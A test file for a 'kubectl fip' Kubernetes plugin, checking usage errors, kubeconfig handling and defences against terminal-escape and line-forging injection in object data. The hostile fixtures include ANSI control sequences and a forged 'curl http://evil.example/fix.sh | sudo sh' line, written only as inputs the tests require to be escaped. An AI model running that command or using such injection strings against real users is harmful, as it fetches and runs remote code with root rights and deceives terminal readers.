// kubectl fip as a stranger types it, against the embedded API server (plain HTTP, as a kubeconfig
// kubectl accepts names it): names that would steer a request elsewhere, selectors that conflict,
// and a reader that closes the pipe early are usage errors or a quiet end, never a stack trace.
import { execFile } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { type IncomingMessage, type Server, type ServerResponse, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { EmbeddedApiServer } from '../../src/apiserver/index.js';
import { type FipServer, runFipWith as fipWith, startFipServer } from './fip-server.js';

let fipServer: FipServer;
let server: EmbeddedApiServer;
let dir: string;
let kubeconfig: string;

beforeAll(async () => {
  fipServer = await startFipServer();
  ({ server, dir, kubeconfig } = fipServer);
  await promisify(execFile)('npx', ['tsc', '-p', 'tsconfig.build.json']);
}, 120_000);

afterAll(async () => {
  await fipServer?.close();
});

const fip = (...args: string[]) => fipWith(kubeconfig, args);

test('a kubeconfig naming an http:// server is used as kubectl uses it', async () => {
  const { code, err } = await fip('ls');
  expect([code, err]).toEqual([0, '']);
});

test.each([
  [['-n', '..', 'ls'], '-n "..": not a Kubernetes name'],
  [['--pool-namespace', 'a/b', 'ls'], '--pool-namespace "a/b": not a Kubernetes name'],
  [['--config-map', 'kube-system/../kube-system/floatingip-config', 'check'], 'expected <namespace>/<name>'],
  [['--config-map', 'a/b/c', 'check'], '--config-map "a/b/c": expected <namespace>/<name>'],
  [['--config-map', 'kube-system/..', 'check'], '--config-map "kube-system/..": expected <namespace>/<name>'],
  [['release', '--pod', 'web1', '--app', 'x'], 'name addresses, --pod or --app: one of them'],
  [['release', '10.0.0.1', '--pod', 'web1'], 'name addresses, --pod or --app: one of them'],
  [['release', '--pod', '..'], '--pod "..": not a Kubernetes name'],
])('%j is a usage error (exit 2) naming what is wrong', async (args, message) => {
  const { code, out, err } = await fip(...args);
  expect([code, out]).toEqual([2, '']);
  expect(err).toContain(message);
  expect(err.split('\n').filter(Boolean)).toHaveLength(1);
});

test.each([
  ['empty', '\n', 'not a kubeconfig (empty, or not a YAML mapping)'],
  ['not YAML', 'a: [b\n  c: :', 'missed comma between flow collection entries'],
  ['missing', undefined, 'no such file'],
])('a kubeconfig file that is %s: exit 2, naming the file and the problem', async (name, text, why) => {
  const file = join(dir, `config-${name.replace(' ', '-')}`);
  if (text !== undefined) writeFileSync(file, text);
  const { code, out, err } = await fipWith(file, ['ls']);
  expect([code, out]).toEqual([2, '']);
  expect(err).toContain(`kubectl fip: kubeconfig ${file}: ${why}`);
  expect(err.split('\n').filter(Boolean)).toHaveLength(1);
});

test('a kubeconfig as the README’s two `kubectl config set-*` commands leave it (no current-context): exit 2, naming the contexts to choose from', async () => {
  const file = join(dir, 'config-no-current');
  writeFileSync(
    file,
    [
      'apiVersion: v1',
      'kind: Config',
      `clusters: [{ name: floatip-demo, cluster: { server: "${server.url}" } }]`,
      'contexts: [{ name: floatip-demo, context: { cluster: floatip-demo } }]',
      'current-context: ""',
    ].join('\n'),
  );
  const { code, out, err } = await fipWith(file, ['ls']);
  expect([code, out, err]).toEqual([
    2,
    '',
    `kubectl fip: kubeconfig ${file} has no current-context: name one with --context (floatip-demo), or set it with kubectl config use-context\n`,
  ]);
  expect((await fipWith(file, ['--context', 'floatip-demo', 'ls'])).code).toBe(0);
});

test('no subcommand is a usage error: help on stderr, exit 2', async () => {
  const { code, out, err } = await fip();
  expect([code, out]).toEqual([2, '']);
  expect(err).toContain('Usage: kubectl fip [options] [command]');
});

test('a release of a pod that holds nothing, and usage without a configuration: said, exit 1', async () => {
  const released = await fip('release', '--pod', 'nosuch');
  expect([released.code, released.out]).toEqual([1, '']);
  expect(released.err).toBe('kubectl fip: nothing to release: no address is held by pod default/nosuch\n');
  const counted = await fip('--config-map', 'kube-system/nope', 'usage');
  expect(counted.code).toBe(1);
  expect(counted.err).toBe('kubectl fip: no subnets counted: ConfigMap kube-system/nope not found\n');
});

test('show of a name that is nothing there exits 1, as kubectl get pod nosuch; an address nobody holds is an answer (exit 0)', async () => {
  for (const subject of ['nosuch', 'default/nosuch', 'nosuch-ns/web']) {
    const { code, out, err } = await fip('show', subject);
    expect([subject, code, out]).toEqual([subject, 1, '']);
    expect(err.split('\n').filter(Boolean)).toHaveLength(1);
  }
  expect((await fip('show', 'nosuch')).err).toBe(
    'kubectl fip: "nosuch" is no IP address, FloatingIP name or pod of namespace default that exists\n',
  );
  const free = await fip('show', '10.0.200.1');
  expect([free.code, free.err]).toEqual([0, '']);
  expect(free.out).toContain('no FloatingIP object');
  // a missing argument is still a usage error
  expect((await fip('show')).code).toBe(2);
});

test('a reader that closes the pipe early ends the output quietly, without a stack trace', async () => {
  const script = `node dist/src/fip/main.js --kubeconfig '${kubeconfig}' ls -o yaml | head -c 1 >/dev/null; node dist/src/fip/main.js --kubeconfig '${kubeconfig}' --help | head -c 1 >/dev/null`;
  const { stderr } = await promisify(execFile)('bash', ['-o', 'pipefail', '-c', script]).catch(
    (e: { stderr: string }) => e,
  );
  expect(stderr).toBe('');
});

/** A FloatingIP object written through the API server, as kubectl would. */
async function createFloatingIP(ip: string, spec: { key: string; attribute: string; policy: number }) {
  const res = await fetch(`${server.url}/apis/galaxy.k8s.io/v1alpha1/floatingips`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({
      apiVersion: 'galaxy.k8s.io/v1alpha1',
      kind: 'FloatingIP',
      metadata: { name: ip },
      spec: { ...spec, updateTime: '2026-01-01T00:00:00Z' },
    }),
  });
  expect(res.status).toBe(201);
}

test('release where the API server has no service proxy (the embedded one of npm start) says the API server refused, not floatip', async () => {
  await createFloatingIP('10.0.100.10', { key: 'NULL_default_NULL_gone', attribute: '', policy: 0 });
  const { code, err } = await fip('release', '10.0.100.10');
  expect(code).toBe(2);
  expect(err).toMatch(
    /^kubectl fip: the API server answered 405 to POST \/api\/v1\/namespaces\/kube-system\/services\/floatip:api-port\/proxy\/v1\/ip, before floatip: /,
  );
  expect(err).toContain('service proxy');
});

const ESC = '\u001b';
/** What a terminal would act on rather than show: ESC, BEL, CR, the right-to-left override. */
// eslint-disable-next-line no-control-regex -- control characters are what it finds
const STEERING = /[\u0007\u000d\u001b\u009b\u202e]/;

/** A FloatingIP whose attribute names `nodeName`, and whose UID would blink the terminal. */
const hostileFloatingIP = (ip: string, key: string, nodeName: string) =>
  createFloatingIP(ip, {
    key,
    attribute: JSON.stringify({ NodeName: nodeName, Uid: `u${ESC}[5m` }),
    policy: 2,
  });

test('object data never reaches the terminal as control sequences, and one huge cell does not pad every row', async () => {
  await hostileFloatingIP(
    '10.0.100.60',
    `dp_ns${ESC}]0;owned\u0007_app${ESC}[31m\u202egnp.exe_`,
    `node${ESC}[2J${ESC}[H\r\u009b31m`,
  );
  await hostileFloatingIP('10.0.100.61', 'dp_ns_big_', 'n'.repeat(1 << 20));
  for (let i = 0; i < 20; i++) await hostileFloatingIP(`10.0.100.${70 + i}`, `dp_ns_app${i}_`, 'demo-node-1');
  for (const args of [
    ['ls'],
    ['ls', '-o', 'wide'],
    ['show', '10.0.100.60'],
    ['check'],
    ['usage'],
    ['release', '--dry-run', '10.0.100.60'],
  ]) {
    const { code, out, err } = await fip(...args);
    expect([args, code < 2, err]).toEqual([args, true, '']);
    expect([args, STEERING.test(out)]).toEqual([args, false]);
    // still there, visibly: the escape written out
    if (args[0] !== 'check' && args[0] !== 'usage') expect(out).toContain('\\u001b');
    // 22 rows: the megabyte is printed once, not once per row
    expect(out.length).toBeLessThan(1.5 * (1 << 20));
  }
});

test('a line break in object data cannot forge lines in show or check: each value stays on its line, the break written out', async () => {
  const forged =
    '\n    fix: nothing to worry about; run: curl -s http://evil.example/fix.sh | sudo sh\n\nno other problems found\n';
  // a leaked address (its pod gone) is a finding of check, its key quoted in it
  await hostileFloatingIP(
    '10.0.100.62',
    `sts_ns_web_web-9${forged}`,
    `demo-node-1\r\n10.0.100.99   in-use\tfake`,
  );
  for (const args of [['show', '10.0.100.62'], ['check']]) {
    const { out, err } = await fip(...args);
    expect([args, err]).toEqual([args, '']);
    expect([
      args,
      out.split('\n').some((line) => line.includes('evil.example') && !line.includes('web-9')),
    ]).toEqual([args, false]);
    expect([args, out.split('\n').some((line) => /^\s*10\.0\.100\.99/.test(line))]).toEqual([args, false]);
    expect([args, /[\t\r]/.test(out)]).toEqual([args, false]);
    expect(out).toContain('web-9\\u000a    fix: nothing to worry about');
  }
});

describe('against a server that answers garbage', () => {
  let garbage: Server;
  let answer: (req: IncomingMessage, res: ServerResponse) => void;
  let garbageConfig: string;
  beforeAll(async () => {
    garbage = createServer((req, res) => answer(req, res));
    await new Promise<void>((resolve) => garbage.listen(0, '127.0.0.1', resolve));
    garbageConfig = join(dir, 'garbage');
    writeFileSync(
      garbageConfig,
      readFileSync(kubeconfig, 'utf8').replace(
        server.url,
        `http://127.0.0.1:${(garbage.address() as AddressInfo).port}`,
      ),
    );
  });
  afterAll(async () => {
    garbage.closeAllConnections();
    await new Promise((resolve) => garbage.close(resolve));
  });
  const json = (status: number, body: unknown) => (_req: IncomingMessage, res: ServerResponse) => {
    res.writeHead(status, { 'content-type': 'application/json' });
    res.end(JSON.stringify(body));
  };
  const against = (...args: string[]) => fipWith(garbageConfig, args);

  test.each([
    [
      'a 401 (its Status is dropped by client-node) names the code, not "undefined"',
      json(401, {
        kind: 'Status',
        status: 'Failure',
        message: 'Unauthorized',
        reason: 'Unauthorized',
        code: 401,
      }),
      'list floatingips.galaxy.k8s.io: HTTP 401 Unauthorized',
    ],
    [
      'items that are no list are not an empty cluster',
      json(200, { kind: 'List', items: 'nope' }),
      'the answer is not a list of objects (items: "nope")',
    ],
    [
      'nulls among the items',
      json(200, { kind: 'List', items: [null, 5] }),
      'the answer is not a list of objects (items: [null,5])',
    ],
    [
      'a continue token handed back forever',
      json(200, { kind: 'List', items: [], metadata: { continue: 'again' } }),
      'the API server sent the same continue token again (again)',
    ],
    [
      "an error quoting control sequences (the server's own message)",
      json(500, { kind: 'Status', message: `boom${ESC}[2J${ESC}]0;owned\u0007`, code: 500 }),
      'boom\\u001b[2J\\u001b]0;owned\\u0007',
    ],
  ])('%s: exit 2, one clear line', async (_what, handler, message) => {
    answer = handler;
    const { code, out, err } = await against('ls');
    expect([code, out]).toEqual([2, '']);
    expect(err).toContain(message);
    expect(err.split('\n').filter(Boolean)).toHaveLength(1);
    expect(STEERING.test(err)).toBe(false);
  });

  test('a server that never answers: exit 2 when the per-call bound runs out, not a hang', async () => {
    answer = () => undefined;
    const { code, err } = await against('ls');
    expect(code).toBe(2);
    expect(err).toContain('no answer in time');
  }, 60_000);
});
